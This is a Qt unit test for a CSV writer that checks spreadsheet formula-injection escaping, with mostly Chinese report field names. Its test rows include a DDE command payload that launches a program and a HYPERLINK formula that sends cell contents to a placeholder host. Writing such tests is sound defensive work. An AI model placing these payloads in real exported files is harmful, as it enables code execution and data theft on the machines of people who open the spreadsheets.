#include "csvsheet.h"

#include <QTest>

using namespace nianbao;

class TestCsvSheet : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void fields_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("written");
        QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")")
                                   << QStringLiteral("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点此\"\")\"");
        QTest::newRow("dde") << QStringLiteral("+cmd|' /C calc'!A0") << QStringLiteral("\"'+cmd|' /C calc'!A0\"");
        QTest::newRow("minus formula") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("\"'-2+3+cmd|' /C calc'!A0\"");
        QTest::newRow("at") << QStringLiteral("@SUM(1+1)") << QStringLiteral("\"'@SUM(1+1)\"");
        QTest::newRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("\"'\t=1+1\"");
        QTest::newRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
        QTest::newRow("lone minus") << QStringLiteral("-") << QStringLiteral("\"'-\"");
        QTest::newRow("minus with comma") << QStringLiteral("-1,000") << QStringLiteral("\"'-1,000\"");
        QTest::newRow("plus number") << QStringLiteral("+3") << QStringLiteral("\"'+3\"");
        QTest::newRow("negative count") << QStringLiteral("-3") << QStringLiteral("\"-3\"");
        QTest::newRow("negative amount") << QStringLiteral("-24252.311082") << QStringLiteral("\"-24252.311082\"");
        QTest::newRow("count") << QStringLiteral("12") << QStringLiteral("\"12\"");
        QTest::newRow("name") << QStringLiteral("甲局，\"综合\"科") << QStringLiteral("\"甲局，\"\"综合\"\"科\"");
        QTest::newRow("formula sign inside") << QStringLiteral("V1×2 =V3") << QStringLiteral("\"V1×2 =V3\"");
        QTest::newRow("empty") << QString() << QStringLiteral("\"\"");
    }
    void fields()
    {
        QFETCH(QString, text);
        QFETCH(QString, written);
        QCOMPARE(CsvSheet::field(text), written);
    }

    void sheet()
    {
        CsvSheet sheet;
        sheet.addRow({QStringLiteral("单位"), QStringLiteral("本年增/减")});
        sheet.addRow({QStringLiteral("=1+1"), QStringLiteral("-3")});
        QCOMPARE(sheet.toBytes(), QByteArray("\xEF\xBB\xBF") + QStringLiteral("\"单位\",\"本年增/减\"\r\n\"'=1+1\",\"-3\"\r\n").toUtf8());
    }
};

QTEST_GUILESS_MAIN(TestCsvSheet)
#include "tst_csvsheet.moc"
